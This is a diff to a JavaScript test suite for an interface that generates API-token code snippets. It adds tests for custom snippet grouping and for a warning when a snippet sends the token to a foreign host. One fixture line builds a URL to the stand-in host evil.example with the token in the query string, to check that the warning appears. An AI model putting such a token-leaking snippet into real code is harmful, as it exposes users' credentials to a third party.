@@ -107,6 +107,24 @@ describe('the list “Language”', () => {
     ]);
   });
 
+  it('has custom snippets in a group of their own, and tells of them', () => {
+    const details = () =>
+      findAll(drawn(), 'p').filter(
+        ({ attrs }) => attrs.className === 'jp-ApiToken-detail'
+      );
+    page.set({ custom: [{ name: 'b', code: 'x' }] });
+    const groups = findAll(list('Language'), 'optgroup');
+    expect(groups.map(textOf)).toEqual(['b']);
+    expect(Object.keys(options('Language'))).toEqual([
+      'curl',
+      'elsewhere',
+      'b'
+    ]);
+    expect(details()).toHaveLength(0);
+    page.model.language = 'b';
+    expect(details()).toHaveLength(1);
+  });
+
   it('chooses the snippet', () => {
     change(list('Language'), { value: 'elsewhere' });
     expect(page.model.snippet?.name).toBe('elsewhere');
@@ -243,6 +261,18 @@ describe('warnings', () => {
       `This snippet failed. Choose another one, and tell whoever made it. Details for a report Message No luck with ${'•'.repeat(16)}`
     ]);
     expect(options('Language')).toHaveProperty('curl');
+  });
+
+  it('name another host than the server’s only where the code has the token', () => {
+    page.set({
+      custom: [{ name: 'far', code: 'get https://evil.example/?t=${token}' }]
+    });
+    page.model.language = 'far';
+    expect(warnings()).toEqual([]);
+    page.model.includeToken = true;
+    expect(warnings()).toEqual([expect.stringContaining('evil.example')]);
+    page.model.language = 'curl';
+    expect(warnings()).toEqual([]);
   });
 
   it('say why there is no code for a path', () => {
